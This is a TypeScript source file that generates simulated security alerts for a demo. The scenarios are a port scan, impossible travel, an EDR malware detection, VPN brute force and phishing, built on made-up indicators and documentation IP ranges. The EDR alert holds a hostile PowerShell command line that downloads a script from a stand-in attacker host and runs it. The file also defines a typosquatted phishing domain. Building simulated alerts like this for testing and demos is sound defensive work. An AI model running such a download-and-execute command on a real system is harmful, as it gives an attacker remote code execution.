import { randomBytes, randomInt } from 'node:crypto';
import type { JsonObject } from '../../../common/types/json';

export interface SimulatedAlert {
  connector: string;
  source: string;
  payload: JsonObject;
}

/**
 * The parties of the demo stories. Addresses are documentation ranges (RFC 5737) and the
 * names made up, so demo data never names a real party, yet every one is a valid public
 * indicator the extractor keeps. The attackers' indicators are on the mock provider's demo
 * threat list (enrichment/providers/demo-threat-list.ts); the victims' are not.
 */
export const SIM_INDICATORS = {
  portScanner: '198.51.100.23',
  ec2PublicIp: '192.0.2.10',
  vpnAttacker: '203.0.113.77',
  travelUser: 'j.doe@northwind-traders.com',
  travelHomeIp: '198.51.100.77',
  travelForeignIp: '203.0.113.199',
  malwareSha256: '9f2c4d8e1b7a6350c1e8f4a2d9b3c7e5f0a1b2c3d4e5f60718293a4b5c6d7e8f',
  malwareMd5: '5d41a2f7c9e3b8d06f1a4c2e9b7d3f58',
  stagerDomain: 'cdn-update-check.net',
  stagerUrl: 'http://cdn-update-check.net/stage2.ps1',
  phishSender: 'billing@paypa1-secure-billing.com',
  phishDomain: 'paypa1-secure-billing.com',
  phishUrl: 'https://paypa1-secure-billing.com/login?session=8812',
  phishRelayIp: '192.0.2.145',
  phishAttachmentSha256: 'b4e1f07a9c2d3e5f6a7b8c9d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b',
  phishRecipient: 'finance.team@northwind-traders.com',
} as const;

const sim = SIM_INDICATORS;
const hex = (bytes: number) => randomBytes(bytes).toString('hex');
const now = () => new Date().toISOString();
/** As a mail gateway reports a link: `hxxps://host[.]com/...`. */
const defang = (url: string) => url.replace(/^http/, 'hxxp').replace(/\.(?=[a-z]+\/)/, '[.]');

function guarddutyPortscan(): SimulatedAlert[] {
  const remote = sim.portScanner;
  return [
    {
      connector: 'guardduty',
      source: 'guardduty',
      payload: {
        schemaVersion: '2.0',
        accountId: '123456789012',
        region: 'eu-west-1',
        partition: 'aws',
        id: hex(16),
        arn: `arn:aws:guardduty:eu-west-1:123456789012:detector/${hex(16)}/finding/${hex(16)}`,
        type: 'Recon:EC2/PortProbeUnprotectedPort',
        resource: {
          resourceType: 'Instance',
          instanceDetails: {
            instanceId: `i-${hex(8)}`,
            instanceType: 't3.medium',
            networkInterfaces: [
              {
                privateIpAddress: '10.0.1.25',
                publicIp: sim.ec2PublicIp,
                subnetId: 'subnet-0a1b2c3d',
              },
            ],
            tags: [{ key: 'Name', value: 'payments-api-1' }],
          },
        },
        service: {
          serviceName: 'guardduty',
          action: {
            actionType: 'PORT_PROBE',
            portProbeAction: {
              blocked: false,
              portProbeDetails: [
                {
                  localPortDetails: { port: 22, portName: 'SSH' },
                  remoteIpDetails: {
                    ipAddressV4: remote,
                    organization: { asnOrg: 'Bulletproof VPS Ltd', isp: 'Bulletproof VPS Ltd' },
                    country: { countryName: 'Netherlands' },
                  },
                },
              ],
            },
          },
          count: randomInt(5, 60),
          eventFirstSeen: now(),
          eventLastSeen: now(),
          archived: false,
        },
        severity: 5,
        createdAt: now(),
        updatedAt: now(),
        title: `Unprotected port on EC2 instance is being probed by ${remote}.`,
        description: `EC2 instance has an unprotected port 22 which is being probed by a known malicious host ${remote}.`,
      },
    },
  ];
}

function o365ImpossibleTravel(): SimulatedAlert[] {
  const user = sim.travelUser;
  return [
    {
      connector: 'generic',
      source: 'microsoft-365',
      payload: {
        id: hex(16),
        azureTenantId: '00000000-0000-4000-8000-000000000000',
        category: 'ImpossibleTravel',
        title: 'Impossible travel activity',
        description: `Sign-ins for ${user} from two distant countries within 20 minutes.`,
        severity: 'medium',
        status: 'newAlert',
        createdDateTime: now(),
        eventDateTime: now(),
        vendorInformation: { provider: 'MCAS', vendor: 'Microsoft' },
        userStates: [
          {
            userPrincipalName: user,
            accountName: user.split('@')[0],
            logonIp: sim.travelForeignIp,
            logonLocation: 'Lagos, NG',
          },
          {
            userPrincipalName: user,
            accountName: user.split('@')[0],
            logonIp: sim.travelHomeIp,
            logonLocation: 'Amsterdam, NL',
          },
        ],
      },
    },
  ];
}

function edrMalware(): SimulatedAlert[] {
  return [
    {
      connector: 'generic',
      source: 'crowdstrike',
      payload: {
        metadata: {
          customerIDString: hex(16),
          offset: randomInt(1e6),
          eventType: 'EPPDetectionSummaryEvent',
          eventCreationTime: Date.now(),
          version: '1.0',
        },
        event: {
          Name: 'MaliciousDownloadExecuted',
          Description: 'A process executed a file downloaded from a known malicious domain.',
          Severity: 90,
          SeverityName: 'Critical',
          Tactic: 'Execution',
          Technique: 'User Execution',
          ComputerName: 'FIN-LAPTOP-07',
          UserName: 'a.smith',
          LocalIP: '10.20.30.44',
          FileName: 'invoice_viewer.exe',
          FilePath: '\\\\Device\\\\HarddiskVolume3\\\\Users\\\\a.smith\\\\Downloads\\\\',
          SHA256String: sim.malwareSha256,
          MD5String: sim.malwareMd5,
          CommandLine: `powershell -nop -w hidden -c "iwr ${sim.stagerUrl} | iex"`,
          AgentId: hex(16),
          CompositeId: `${hex(16)}:ind:${hex(16)}`,
          FalconHostLink: `https://falcon.crowdstrike.com/activity-v2/detections/${hex(16)}`,
        },
      },
    },
  ];
}

function vpnBruteforce(): SimulatedAlert[] {
  const attacker = sim.vpnAttacker;
  return Array.from({ length: 5 }, (_, attempt) => ({
    connector: 'wazuh',
    source: 'wazuh',
    payload: {
      timestamp: new Date(Date.now() + attempt * 1000).toISOString().replace('Z', '+0000'),
      rule: {
        level: attempt < 4 ? 5 : 10,
        description:
          attempt < 4
            ? 'VPN authentication failed.'
            : 'VPN brute force: multiple authentication failures from one address.',
        id: attempt < 4 ? '81614' : '81615',
        groups: ['fortigate', 'vpn', 'authentication_failed'],
        mitre: { id: ['T1110'], tactic: ['Credential Access'] },
      },
      agent: { id: '000', name: 'wazuh-manager' },
      manager: { name: 'wazuh-manager' },
      id: `${Math.floor(Date.now() / 1000)}.${randomInt(1e6)}`,
      full_log: `date=2026-11-21 logdesc="SSL VPN login fail" srcip=${attacker} user="vpnuser${attempt}" reason="sslvpn_login_permission_denied"`,
      decoder: { parent: 'fortigate-firewall-v6', name: 'fortigate-firewall-v6' },
      data: { srcip: attacker, dstuser: `vpnuser${attempt}`, action: 'ssl-login-fail' },
      location: '10.0.0.1',
    },
  }));
}

function phishing(): SimulatedAlert[] {
  return [
    {
      connector: 'generic',
      source: 'email-gateway',
      payload: {
        alert_id: `PH-${randomInt(1e6)}`,
        title: 'User-reported phishing email',
        severity: 'high',
        timestamp: now(),
        recipient: sim.phishRecipient,
        sender: sim.phishSender,
        subject: 'Action required: invoice overdue',
        description: `Email asks the user to log in at ${defang(sim.phishUrl)} and to open an attachment.`,
        urls: [defang(sim.phishUrl)],
        attachments: [{ filename: 'invoice.pdf.exe', sha256: sim.phishAttachmentSha256 }],
        sender_ip: sim.phishRelayIp,
      },
    },
  ];
}

export const SIM_SCENARIOS = {
  'guardduty-portscan': guarddutyPortscan,
  'o365-impossible-travel': o365ImpossibleTravel,
  'edr-malware': edrMalware,
  'vpn-bruteforce': vpnBruteforce,
  phishing,
} satisfies Record<string, () => SimulatedAlert[]>;

export type SimScenario = keyof typeof SIM_SCENARIOS;
export const SIM_SCENARIO_NAMES = Object.keys(SIM_SCENARIOS) as SimScenario[];
